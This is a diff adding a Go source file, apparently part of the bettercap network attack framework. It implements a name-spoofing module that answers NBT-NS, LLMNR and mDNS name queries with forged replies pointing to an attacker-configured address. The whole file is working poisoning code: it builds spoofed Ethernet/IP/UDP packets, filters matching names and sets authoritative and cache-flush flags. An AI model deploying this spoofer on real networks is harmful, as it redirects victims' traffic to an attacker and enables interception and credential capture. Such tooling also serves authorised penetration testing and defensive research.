@@ -0,0 +1,220 @@
+package name_spoof
+
+import (
+	"net"
+	"strings"
+
+	"github.com/bettercap/bettercap/v2/network"
+	"github.com/bettercap/bettercap/v2/packets"
+
+	"github.com/gopacket/gopacket"
+	"github.com/gopacket/gopacket/layers"
+)
+
+// mDNS class bits for unicast responses (questions) and cache flush (answers)
+const mdnsClassMask = 0x7fff
+const mdnsCacheFlush = 0x8000
+
+// not defined by gopacket
+const dnsTypeANY layers.DNSType = 255
+
+// nbns name suffixes of workstations and file servers
+var nbnsSuffixes = map[byte]bool{
+	0x00: true,
+	0x20: true,
+}
+
+type nameReply struct {
+	proto   string
+	name    string
+	payload gopacket.SerializableLayer
+	dstIP   net.IP
+	dstMAC  net.HardwareAddr
+	srcPort layers.UDPPort
+	dstPort layers.UDPPort
+}
+
+func (r *nameReply) serialize(iface *network.Endpoint) (error, []byte) {
+	eth := layers.Ethernet{
+		SrcMAC:       iface.HW,
+		DstMAC:       r.dstMAC,
+		EthernetType: layers.EthernetTypeIPv4,
+	}
+
+	udp := layers.UDP{
+		SrcPort: r.srcPort,
+		DstPort: r.dstPort,
+	}
+
+	if r.dstIP.To4() == nil {
+		eth.EthernetType = layers.EthernetTypeIPv6
+		ip6 := layers.IPv6{
+			Version:    6,
+			NextHeader: layers.IPProtocolUDP,
+			HopLimit:   255,
+			SrcIP:      iface.IPv6,
+			DstIP:      r.dstIP,
+		}
+		udp.SetNetworkLayerForChecksum(&ip6)
+		return packets.Serialize(&eth, &ip6, &udp, r.payload)
+	}
+
+	ip4 := layers.IPv4{
+		Protocol: layers.IPProtocolUDP,
+		Version:  4,
+		TTL:      64,
+		SrcIP:    iface.IP,
+		DstIP:    r.dstIP,
+	}
+	udp.SetNetworkLayerForChecksum(&ip4)
+	return packets.Serialize(&eth, &ip4, &udp, r.payload)
+}
+
+func (mod *NameSpoofer) matches(name string) bool {
+	return mod.Names.Resolve(name) != nil
+}
+
+// replyFor returns the spoofed reply to a name query, or nil if the packet must be ignored.
+func (mod *NameSpoofer) replyFor(pkt gopacket.Packet) *nameReply {
+	leth := pkt.Layer(layers.LayerTypeEthernet)
+	udp := udpOf(pkt)
+	if leth == nil || udp == nil {
+		return nil
+	}
+
+	var srcIP net.IP
+	if l4 := pkt.Layer(layers.LayerTypeIPv4); l4 != nil {
+		srcIP = l4.(*layers.IPv4).SrcIP
+	} else if l6 := pkt.Layer(layers.LayerTypeIPv6); l6 != nil {
+		srcIP = l6.(*layers.IPv6).SrcIP
+	} else {
+		return nil
+	}
+
+	eth := leth.(*layers.Ethernet)
+	if !mod.shouldReply(srcIP, eth.SrcMAC) {
+		return nil
+	}
+
+	var reply *nameReply
+	switch udp.DstPort {
+	case packets.NBNSPort:
+		if mod.NBNS && srcIP.To4() != nil {
+			reply = mod.nbnsReply(udp.Payload)
+		}
+	case packets.LLMNRPort:
+		if mod.LLMNR {
+			reply = mod.dnsReply("LLMNR", udp.Payload, false, true)
+		}
+	case packets.MDNSPort:
+		if mod.MDNS {
+			// one-shot queries from ports other than 5353 expect a conventional reply
+			reply = mod.dnsReply("mDNS", udp.Payload, true, udp.SrcPort != packets.MDNSPort)
+		}
+	}
+
+	if reply != nil {
+		// always answer in unicast to the client
+		reply.dstIP = srcIP
+		reply.dstMAC = eth.SrcMAC
+		reply.srcPort = udp.DstPort
+		reply.dstPort = udp.SrcPort
+	}
+
+	return reply
+}
+
+func (mod *NameSpoofer) nbnsReply(payload []byte) *nameReply {
+	query, err := packets.NBNSParseQuery(payload)
+	if err != nil || !nbnsSuffixes[query.Suffix] || !mod.matches(query.Name) {
+		return nil
+	}
+
+	return &nameReply{
+		proto:   "NBT-NS",
+		name:    query.Name,
+		payload: gopacket.Payload(packets.NBNSReply(query, mod.TTL, mod.Address)),
+	}
+}
+
+// dnsReply answers LLMNR and mDNS queries, which share the DNS wire format.
+func (mod *NameSpoofer) dnsReply(proto string, payload []byte, mdns bool, withQuestions bool) *nameReply {
+	req := layers.DNS{}
+	if err := req.DecodeFromBytes(payload, gopacket.NilDecodeFeedback); err != nil {
+		return nil
+	} else if req.QR || req.OpCode != layers.DNSOpCodeQuery || len(req.Questions) == 0 {
+		return nil
+	}
+
+	answers := make([]layers.DNSResourceRecord, 0)
+	name := ""
+	for _, q := range req.Questions {
+		qName := string(q.Name)
+		match := qName
+		class := q.Class
+		if mdns {
+			class &= mdnsClassMask
+			if !strings.HasSuffix(strings.ToLower(qName), ".local") {
+				continue
+			}
+			match = qName[:len(qName)-len(".local")]
+		}
+
+		if class != layers.DNSClassIN && class != layers.DNSClassAny {
+			continue
+		} else if !mod.matches(match) && !mod.matches(qName) {
+			continue
+		}
+
+		if mdns {
+			class = layers.DNSClassIN | mdnsCacheFlush
+		} else {
+			class = layers.DNSClassIN
+		}
+
+		if q.Type == layers.DNSTypeA || q.Type == dnsTypeANY {
+			answers = append(answers, layers.DNSResourceRecord{
+				Name:  q.Name,
+				Type:  layers.DNSTypeA,
+				Class: class,
+				TTL:   mod.TTL,
+				IP:    mod.Address,
+			})
+		}
+		if (q.Type == layers.DNSTypeAAAA || q.Type == dnsTypeANY) && mod.Address6 != nil {
+			answers = append(answers, layers.DNSResourceRecord{
+				Name:  q.Name,
+				Type:  layers.DNSTypeAAAA,
+				Class: class,
+				TTL:   mod.TTL,
+				IP:    mod.Address6,
+			})
+		}
+
+		if name == "" {
+			name = qName
+		}
+	}
+
+	if len(answers) == 0 {
+		return nil
+	}
+
+	dns := &layers.DNS{
+		ID:      req.ID,
+		QR:      true,
+		AA:      true,
+		OpCode:  layers.DNSOpCodeQuery,
+		Answers: answers,
+	}
+
+	if withQuestions {
+		dns.Questions = req.Questions
+	}
+
+	return &nameReply{
+		proto:   proto,
+		name:    name,
+		payload: dns,
+	}
+}